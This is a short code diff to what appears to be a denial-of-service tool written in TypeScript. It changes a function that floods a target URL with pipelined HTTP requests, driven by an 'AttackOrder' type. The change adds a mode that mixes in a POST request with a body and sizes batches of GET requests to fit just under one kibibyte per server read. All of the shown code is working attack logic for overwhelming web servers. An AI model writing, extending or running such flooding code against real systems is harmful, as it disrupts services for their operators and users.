@@ -84,12 +84,17 @@ async function sendEndlessLine(
 }
 
 async function sendPipelined(
-  { url, requestsPerConnection }: Extract<AttackOrder, { kind: 'pipelined-requests' }>,
+  { url, requestsPerConnection, hasBodies }: Extract<AttackOrder, { kind: 'pipelined-requests' }>,
   socket: Socket,
 ): Promise<void> {
   const { host, pathname } = new URL(url);
-  const some = `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(100);
-  for (let sent = 0; sent < requestsPerConnection && socket.writable; sent += 100) await write(socket, some);
+  const get = `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
+  const post = `POST ${pathname} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1\r\n\r\n`;
+  // A body, and heads up to right behind the first kibibyte, which is a size in which servers like to read.
+  const gets = hasBodies ? Math.floor(1_020 / get.length) : 100;
+  const some = hasBodies ? `x${get.repeat(gets)}${post}` : get.repeat(gets);
+  if (hasBodies) await write(socket, post);
+  for (let sent = 0; sent < requestsPerConnection && socket.writable; sent += gets) await write(socket, some);
 }
 
 async function write(socket: Socket, text: string): Promise<void> {
